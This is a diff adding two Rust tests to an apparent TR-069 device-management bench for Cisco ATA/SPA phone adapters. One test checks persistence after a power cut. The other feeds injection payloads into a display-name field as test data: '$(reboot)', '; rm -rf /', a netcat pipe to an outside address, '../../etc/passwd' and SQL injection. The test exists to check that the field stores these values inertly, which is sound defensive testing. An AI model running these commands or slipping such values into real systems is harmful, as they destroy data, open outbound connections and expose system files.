@@ -443,3 +443,40 @@ fn a_trigger_takes_true_and_reads_false() {
         assert_eq!(bench.get(name), "0");
     }
 }
+
+/// Covers M01.
+#[test]
+fn fragments_of_shell_are_values_like_any_other() {
+    let mut bench = Bench::bootstrapped("ata192");
+    let name = "Device.X_CISCO_ATA.Line.1.Display_Name";
+    for value in [
+        "$(reboot)",
+        "`id`",
+        "; rm -rf /",
+        "| nc 192.0.2.1 80 &",
+        "a\nb",
+        "%s%n",
+        "../../etc/passwd",
+        "' OR 1=1 --",
+    ] {
+        match bench.set(&[(name, value)], "k") {
+            Ok(_) => assert_eq!(bench.get(name), value),
+            Err(fault) => assert_eq!(fault.parameters[0].fault_code.number(), 9007),
+        }
+    }
+}
+
+/// Covers M-07.
+#[test]
+fn deprecated_parameters_hold_a_value_and_take_writes() {
+    let mut bench = Bench::new("spa122");
+    let session = bench.session();
+    let version = "InternetGatewayDevice.DeviceInfo.SpecVersion";
+    assert_eq!(session.value(version), Some("1.0"));
+    let limit =
+        "InternetGatewayDevice.ManagementServer.UDPConnectionRequestAddressNotificationLimit";
+    assert_eq!(bench.get(limit), "0");
+    bench.set(&[(limit, "30")], "k").unwrap();
+    bench.power_cut();
+    assert_eq!(bench.get(limit), "30");
+}
